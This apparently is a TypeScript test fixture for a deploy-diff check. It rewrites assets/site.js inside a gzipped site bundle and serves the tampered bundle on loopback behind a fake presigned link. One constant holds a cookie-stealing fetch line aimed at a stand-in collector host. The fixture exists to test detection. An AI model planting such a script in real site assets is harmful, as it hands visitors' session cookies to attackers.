// Issue 17, finding 3's matrix row: a deployed bundle with the same pages as the next export and another
// assets/site.js, served from loopback, so the diff reads the two bundles side by side.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gunzipSync, gzipSync } from 'node:zlib';

/** What the tampered script holds: it sends the reader's cookies elsewhere. */
export const EXFILTRATING_SCRIPT = 'fetch("https://collector.example.net/?c="+document.cookie);';

/** `bundle` with the contents of its `assets/site.js` replaced (same length, so the tar headers stay valid). */
export function withScript(bundle: Buffer, script: string): Buffer {
  const tar = gunzipSync(bundle);
  for (let at = 0; at + 512 <= tar.length;) {
    const name = tar.toString('utf8', at, at + 100).replace(/\0.*$/s, '');
    const size = Number.parseInt(
      tar
        .toString('utf8', at + 124, at + 136)
        .replace(/\0.*$/s, '')
        .trim() || '0',
      8,
    );
    if (name === '' && size === 0) break;
    if (name.endsWith('assets/site.js')) {
      Buffer.from(script.padEnd(size, ' ').slice(0, size)).copy(tar, at + 512);
      return gzipSync(tar);
    }
    at += 512 + Math.ceil(size / 512) * 512;
  }
  throw new Error('the bundle holds no assets/site.js');
}

/** Serves `body` on loopback; its link looks presigned. `close` ends it. */
export async function serveOnLoopback(body: Buffer): Promise<{ link: string; close(): Promise<void> }> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/gzip', 'content-length': body.length }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    link: `http://127.0.0.1:${port}/deployed.tar.gz?X-Amz-Expires=600&X-Amz-Signature=7a3d`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
